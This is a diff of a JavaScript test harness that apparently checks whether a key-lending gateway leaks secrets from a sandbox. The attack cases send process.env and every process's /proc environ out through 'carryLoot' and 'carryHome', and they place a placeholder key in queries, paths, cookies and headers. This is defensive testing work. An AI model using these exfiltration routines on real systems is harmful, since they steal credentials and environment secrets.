@@ -5,7 +5,7 @@ import { join } from 'node:path';
 import { text } from 'node:stream/consumers';
 import { connect as connectTls } from 'node:tls';
 import { ownDir, processes } from './files.mjs';
-import { carryLoot, ofAllProcesses, withOwnProcess } from './loot.mjs';
+import { carryLoot, LOOT_WORD, ofAllProcesses, withOwnProcess } from './loot.mjs';
 import { carryHome, tunnel } from './wire.mjs';
 
 const SLOT = 'x-api-key';
@@ -53,12 +53,13 @@ const spelled = (answer) =>
 
 const decode = (word, encoding) => Buffer.from(word, encoding).toString('latin1');
 
-/** The lender gives back what it was sent: what comes is carried home, and said. */
+/** The lender gives back what it was sent: what comes is carried home, and said, as the gateway may hold back what it knows. */
 const echoed = (name, order = {}) => ({
-  attack: async (t) => {
+  attack: async (t, nonce) => {
     const answer = await ask(t, 'lends', { path: `/echo/${name}`, ...order });
-    await carryLoot(t, spelled(answer)).catch(() => undefined);
-    throw new Error(answer);
+    const text = spelled(answer);
+    await carryLoot(t, nonce, text).catch(() => undefined);
+    throw new Error([...(text.match(LOOT_WORD) ?? []), answer].join(' '));
   },
   control: lent,
 });
@@ -70,9 +71,12 @@ function placeholder() {
   return value;
 }
 
-/** The placeholder where it has no business; what a host makes of it is heard. */
+/** The placeholder where it has no business; what a host makes of it is heard, beside the nonce. */
 const misplaced = (host, order) => ({
-  attack: async (t) => refused(await ask(t, host, { path: '/misplaced', ...order(placeholder()) })),
+  attack: async (t, nonce) => {
+    const path = `/misplaced/${nonce}`;
+    return refused(await ask(t, host, { path, ...order(placeholder(), path) }));
+  },
   control: lent,
 });
 
@@ -85,7 +89,7 @@ const own = (headersOf) => ({
 /** The word of the control is looked for in the same way. */
 const finding = (textOf) => ({
   alone: true,
-  attack: async (t) => await carryLoot(t, await textOf()),
+  attack: async (t, nonce) => await carryLoot(t, nonce, await textOf()),
   control: async (t, nonce) =>
     await withOwnProcess(nonce, async () => {
       writeFileSync(join(ownDir(), 'own'), nonce);
@@ -192,7 +196,7 @@ function startOf(path) {
 
 export const SECRETS = {
   'secret-environment': {
-    attack: async (t) => await carryLoot(t, JSON.stringify(process.env)),
+    attack: async (t, nonce) => await carryLoot(t, nonce, JSON.stringify(process.env)),
     control: async (t, nonce) => await carryHome(t, { ...process.env, WORD: nonce }.WORD),
   },
   'secret-proc-environ': finding(() => ofAllProcesses('environ')),
@@ -216,12 +220,12 @@ export const SECRETS = {
   'echo-trace': echoed('body', { method: 'TRACE', path: '/trace' }),
   'placeholder-elsewhere': misplaced('opened', (key) => ({ headers: { [SLOT]: key } })),
   'placeholder-plain': {
-    attack: async (t) => await carryHome(t, placeholder()),
+    attack: async (t, nonce) => await carryHome(t, `${nonce}/${placeholder()}`),
     control: lent,
   },
   'placeholder-body': misplaced('lends', (key) => ({ method: 'POST', body: `{"key":"${key}"}` })),
-  'placeholder-query': misplaced('lends', (key) => ({ path: `/misplaced?key=${key}` })),
-  'placeholder-path': misplaced('lends', (key) => ({ path: `/misplaced/${key}` })),
+  'placeholder-query': misplaced('lends', (key, path) => ({ path: `${path}?key=${key}` })),
+  'placeholder-path': misplaced('lends', (key, path) => ({ path: `${path}/${key}` })),
   'placeholder-header': misplaced('lends', (key) => ({ headers: { 'x-note': key } })),
   'placeholder-cookie': misplaced('lends', (key) => ({ headers: { cookie: `key=${key}` } })),
   'placeholder-bearer': misplaced('lends', (key) => ({ headers: { authorization: `Bearer ${key}` } })),
